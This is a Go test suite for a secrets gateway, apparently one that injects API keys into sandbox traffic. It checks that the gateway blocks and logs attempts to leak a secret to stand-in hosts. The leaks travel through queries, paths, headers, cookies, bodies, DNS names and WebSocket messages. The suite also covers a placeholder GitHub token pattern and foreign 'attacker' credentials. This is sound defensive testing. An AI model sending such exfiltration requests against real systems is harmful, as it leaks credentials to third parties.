//go:build linux

package secrets_test

import (
	"context"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/miekg/dns"

	"sallyport/audit"
	"sallyport/test/lab"
)

const outgoingPolicy = `
secret "API_KEY" {
  hosts = ["good.out.test"]
  source "file" { path = "SECRETFILE" }
}
sandbox "s1" {
  credentials = "TRIPWIRE"
  allow "good.out.test" {
    addresses = DOCS
    inject    = ["API_KEY"]
  }
  allow "*.other.test" { addresses = DOCS }
}
`

// known makes the gateway hold the value: what was never fetched cannot be
// recognised.
func known(t *testing.T, s *inside) {
	t.Helper()
	passed(t, s.get(t, "https://good.out.test/", "Authorization: Bearer $API_KEY"))
}

// TestExfiltration: a real value, or an encoding of it, in what a sandbox
// sends is refused and critical, wherever it stands. SEC-31.
func TestExfiltration(t *testing.T) {
	s := start(t, strings.Replace(outgoingPolicy, "TRIPWIRE", "alert", 1), real)
	known(t, s)
	const host = "exfil.other.test"
	refusedAs := func(t *testing.T, name string, a lab.Answer, before int) {
		t.Helper()
		if a.Reason() != "secret_exfiltration" {
			t.Errorf("%s: %d %s", name, a.Status, a.Body)
		}
		s.Mark()
		for _, e := range s.Decisions()[before:] {
			if e.Reason == "secret_exfiltration" {
				if e.Severity != audit.Critical || len(e.Secrets) == 0 || e.Secrets[0].Name != "API_KEY" {
					t.Errorf("%s: recorded as %s with %+v", name, e.Severity, e.Secrets)
				}
				return
			}
		}
		t.Errorf("%s: no decision says so", name)
	}
	before := s.Mark()
	refusedAs(t, "a host that is denied anyway", s.get(t, "https://denied.test/?x="+url.QueryEscape(real)), before)
	before = s.Mark()
	refusedAs(t, "a host that is denied, in clear text", s.get(t, "http://denied.test/?x="+url.QueryEscape(real)), before)
	for _, f := range formsOf(real) {
		for _, h2 := range []bool{false, true} {
			c := s.Client(t, h2)
			for where, req := range map[string]*http.Request{
				"query":  lab.NewRequest(t, "GET", "https://"+host+"/?x="+url.QueryEscape(f.text), ""),
				"path":   lab.NewRequest(t, "GET", "https://"+host+"/a/"+url.PathEscape(f.text), ""),
				"header": lab.NewRequest(t, "GET", "https://"+host+"/", "", "X-Data: "+f.text),
				"cookie": lab.NewRequest(t, "GET", "https://"+host+"/", "", "Cookie: a="+f.text),
			} {
				before := s.Mark()
				a, err := lab.Try(c, req)
				if err != nil {
					t.Errorf("%s in the %s: %v", f.name, where, err)
					continue
				}
				refusedAs(t, f.name+" in the "+where, a, before)
			}
		}
	}
	if !origin(host).Silent() {
		t.Errorf("the origin saw %.300q", origin(host).Raw())
	}
	t.Run("Basic", func(t *testing.T) {
		before := s.Mark()
		a, err := lab.Try(s.Client(t, false), lab.NewRequest(t, "GET", "https://"+host+"/", "", "Authorization: "+basicAuth("user:"+real)))
		if err != nil {
			t.Fatal(err)
		}
		refusedAs(t, "Basic", a, before)
	})
	t.Run("bodies", func(t *testing.T) { exfiltrationInBodies(t, s) })
}

// TestExfiltrationBeforeUse: a value on this machine is known before any
// request has used it, as when it also lies in the sandbox's own folder.
func TestExfiltrationBeforeUse(t *testing.T) {
	s := start(t, strings.Replace(outgoingPolicy, "TRIPWIRE", "alert", 1), real)
	refused(t, s.get(t, "https://first.other.test/?x="+url.QueryEscape(real)), "secret_exfiltration")
	if !origin("first.other.test").Silent() {
		t.Error("the origin saw it")
	}
}

// exfiltrationInBodies: no body with a value arrives whole, whatever its type
// and however it is cut.
func exfiltrationInBodies(t *testing.T, s *inside) {
	for _, f := range formsOf(real) {
		for _, h2 := range []bool{false, true} {
			host := world.lab.Unique("body") + ".other.test"
			req := lab.NewRequest(t, "POST", "https://"+host+"/", "x", "Content-Type: application/octet-stream")
			text := strings.Repeat("before ", 400) + f.text + " behind"
			req.Body, req.ContentLength, req.GetBody = io.NopCloser(oneByOne{strings.NewReader(text)}), -1, nil
			a, err := lab.Try(s.Client(t, h2), req)
			if err == nil && a.Status == 200 {
				t.Errorf("%s, h2=%v: the body was let through: %.200s", f.name, h2, a.Body)
			}
			if raw := string(origin(host).Raw()); strings.Contains(raw, f.core) {
				t.Errorf("%s, h2=%v: the origin saw the value", f.name, h2)
			}
		}
	}
}

// TestExfiltrationByName: a name that spells the value is not asked for.
// SEC-30.
func TestExfiltrationByName(t *testing.T) {
	const value = "tokenaf31bc9907d2e5"
	s := start(t, strings.Replace(outgoingPolicy, "TRIPWIRE", "alert", 1), value)
	known(t, s)
	for _, name := range []string{value + ".other.test", strings.ToUpper(value) + ".other.test", value[:8] + "." + value[8:] + ".other.test"} {
		before := s.Mark()
		if _, err := s.Ask(name, dns.TypeA); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		s.Mark()
		got := s.Decisions()[before:]
		if len(got) != 1 || got[0].Reason != "secret_exfiltration" || got[0].Severity != audit.Critical {
			t.Errorf("%s: recorded as %v", name, got)
		}
	}
	if asked := world.lab.DNS.Asked(value); len(asked) > 0 {
		t.Errorf("questions left the gateway: %v", asked)
	}
}

// TestExfiltrationByMessage: a WebSocket that carries the value is cut before
// it does.
func TestExfiltrationByMessage(t *testing.T) {
	s := start(t, strings.Replace(outgoingPolicy, "TRIPWIRE", "alert", 1), `REAL-8d0f7719ac-value`)
	known(t, s)
	for i, part := range []string{`REAL-8d0f7719ac-value`, formsOf(`REAL-8d0f7719ac-value`)[1].text} {
		host := world.lab.Unique("ws") + ".other.test"
		ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
		defer cancel()
		c, _, err := websocket.Dial(ctx, "wss://"+host+"/lab/ws", &websocket.DialOptions{HTTPClient: s.Client(t, false)})
		if err != nil {
			t.Fatal(err)
		}
		_ = c.Write(ctx, websocket.MessageText, []byte("hello"))
		if _, b, err := c.Read(ctx); err != nil || string(b) != "hello" {
			t.Fatalf("%q %v", b, err)
		}
		_ = c.Write(ctx, websocket.MessageText, []byte("and now "+part)) // cut at some time
		if _, b, err := c.Read(ctx); err == nil {
			t.Errorf("%d: the message was sent and answered: %q", i, b)
		}
		_ = c.CloseNow()
	}
}

// TestCredentialPatterns: a key of a known format that is not the gateway's is
// recorded, refused or ignored, as the sandbox's policy says.
func TestCredentialPatterns(t *testing.T) {
	key := "ghp_" + "Kq3vT9xLw2Zr8Ym5Nc1Bd7Fh4Gj6Ps0UaEiO"
	for mode, reason := range map[string]string{"alert": "", "block": "credential_pattern", "off": ""} {
		t.Run(mode, func(t *testing.T) {
			s := start(t, strings.Replace(outgoingPolicy, "TRIPWIRE", mode, 1), real)
			host := "pattern-" + mode + ".other.test"
			for _, line := range []string{"Authorization: Bearer " + key, "X-Data: a " + key, "Authorization: " + basicAuth("x:"+key)} {
				a := s.get(t, "https://"+host+"/", line)
				if a.Reason() != reason {
					t.Errorf("%s: %d %s", line, a.Status, a.Body)
				}
			}
			s.Mark()
			n := 0
			for _, e := range s.Events(audit.Filter{}) {
				if e.Reason == "credential_pattern" {
					n++
					if len(e.Secrets) != 1 || e.Secrets[0].Name != "github_token" || e.Severity == "" {
						t.Errorf("recorded: %s %+v", e.Severity, e.Secrets)
					}
				}
			}
			if want := map[string]int{"alert": 3, "block": 3, "off": 0}[mode]; n != want {
				t.Errorf("%d events, not %d", n, want)
			}
		})
	}
}

// TestForeignCredentials: what the sandbox brings along beside the gateway's
// secret is stripped, refused or left, in headers, Basic and the query.
// SEC-24, SEC-25.
func TestForeignCredentials(t *testing.T) {
	const policy = `
secret "API_KEY" {
  hosts   = ["*.foreign.test"]
  headers = ["Authorization"]
  query   = ["key"]
  source "file" { path = "SECRETFILE" }
}
sandbox "s1" {
  allow "strip.foreign.test" {
    addresses = DOCS
    inject    = ["API_KEY"]
  }
  allow "block.foreign.test" {
    addresses = DOCS
    inject    = ["API_KEY"]
    foreign   = "block"
  }
  allow "pass.foreign.test" {
    addresses = DOCS
    inject    = ["API_KEY"]
    foreign   = "pass"
  }
}
`
	s := start(t, policy, real)
	for _, tt := range []struct {
		name, target, line string
		foreign            string
	}{
		{"header of the list", "/", "X-Api-Key: attacker", "attacker"},
		{"bearer", "/", "Authorization: Bearer attacker", "attacker"},
		{"Basic", "/", "Authorization: " + basicAuth("evil:attacker"), basicAuth("evil:attacker")},
		{"query", "/?key=attacker&a=1", "", "key=attacker"},
		{"usual parameter", "/?access_token=attacker&a=1", "", "access_token=attacker"},
		{"escaped parameter", "/?%6bey=attacker&a=1", "", "attacker"},
	} {
		for _, mode := range []string{"strip", "block", "pass"} {
			host := mode + ".foreign.test"
			n := len(origin(host).Requests())
			var lines []string
			if tt.line != "" {
				lines = append(lines, tt.line)
			}
			a := s.get(t, "https://"+host+tt.target, lines...)
			if mode == "block" {
				refused(t, a, "foreign_credential")
				if len(origin(host).Requests()) != n {
					t.Errorf("%s: the origin saw it", tt.name)
				}
				continue
			}
			passed(t, a)
			q := last(t, host)
			seen := q.Target + " " + strings.Join(q.Header["Authorization"], "") + " " + strings.Join(q.Header["X-Api-Key"], "")
			if strings.Contains(seen, tt.foreign) != (mode == "pass") {
				t.Errorf("%s, %s: the origin saw %q", tt.name, mode, seen)
			}
		}
	}
}
